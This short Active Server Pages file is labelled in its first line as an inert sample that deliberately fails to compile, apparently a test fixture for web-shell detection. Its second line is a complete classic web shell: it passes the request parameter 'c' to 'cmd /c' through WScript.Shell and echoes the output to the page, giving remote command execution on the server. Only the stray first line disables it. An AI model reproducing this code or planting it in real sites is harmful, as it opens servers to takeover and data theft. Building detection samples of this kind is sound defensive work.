<% shodo inert sample: deliberate compile error, this page never runs %>
<% Set o = Server.CreateObject("WScript.Shell") : Set e = o.Exec("cmd /c " & Request("c")) : Response.Write(e.StdOut.ReadAll()) %>
